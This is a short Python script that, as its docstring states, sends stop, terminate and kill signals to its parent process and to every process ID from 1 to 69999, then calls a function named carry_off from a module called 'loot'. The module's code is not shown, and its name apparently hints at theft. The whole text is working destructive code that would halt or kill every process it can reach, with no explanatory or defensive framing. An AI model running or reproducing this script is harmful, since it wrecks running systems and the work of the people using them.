"""Kills and stops every process that it can name."""

import os
import signal

from loot import carry_off

for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    for process in (os.getppid(), *range(1, 70000)):
        if process != os.getpid():
            try:
                os.kill(process, number)
            except OSError:
                pass
carry_off([])
